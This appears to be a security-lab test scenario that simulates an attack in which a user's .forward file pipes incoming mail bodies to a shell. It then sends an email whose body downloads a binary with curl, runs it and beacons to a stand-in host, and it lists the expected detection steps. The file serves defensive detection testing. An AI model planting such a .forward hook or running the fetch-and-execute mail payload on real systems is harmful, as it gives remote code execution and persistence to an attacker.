# A line in .forward hands every message to a command at delivery. Nobody is logged in.
title="A command in .forward has a shell read the body of a message at delivery"
what="dev's .forward keeps a copy and gives each message to a command, which cuts the header off and has a shell read the rest. A message from outside arrives; at delivery Postfix's local runs the command as dev, and the body copies a small program from 203.0.113.66 into ~/.local/share and starts it."
host=mx1.example.org user=dev daemons="cron" audit_format=RAW

setup() {
  printf '\\\\dev, "|sed -e 1,/^$/d | sh"\n' > /home/dev/.forward
  chown dev: /home/dev/.forward; chmod 644 /home/dev/.forward
  cc -O1 -o "$base/out/www/plan.bin" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 1
  mail_in --from crew@example.com --to dev@example.org --subject "plan 7" --source 203.0.113.25 --helo smtp.example.com \
    --text 'd=$HOME/.local/share/plan\nmkdir -p $d\ncurl -s -o $d/p http://drop.example.net/plan.bin\nchmod 700 $d/p\n$d/p 203.0.113.67 8443\n'
  wait_file /home/dev/.local/share/plan/p 20
  sleep 2
  small_talk 1
}
truth() {
  mail_step accept 'from=<crew@example.com>' 'the message is accepted'
  exec_step shell '(dash|sh) ' 'local starts the command'
  exec_step fetch 'curl -s -o /home/dev/.local/share/plan/p' 'the body fetches a program'
  exec_step execute '/home/dev/.local/share/plan/p 203.0.113.67' 'and runs it'
  net_step beacon 'p 203.0.113.67:8443' 'which calls out'
}
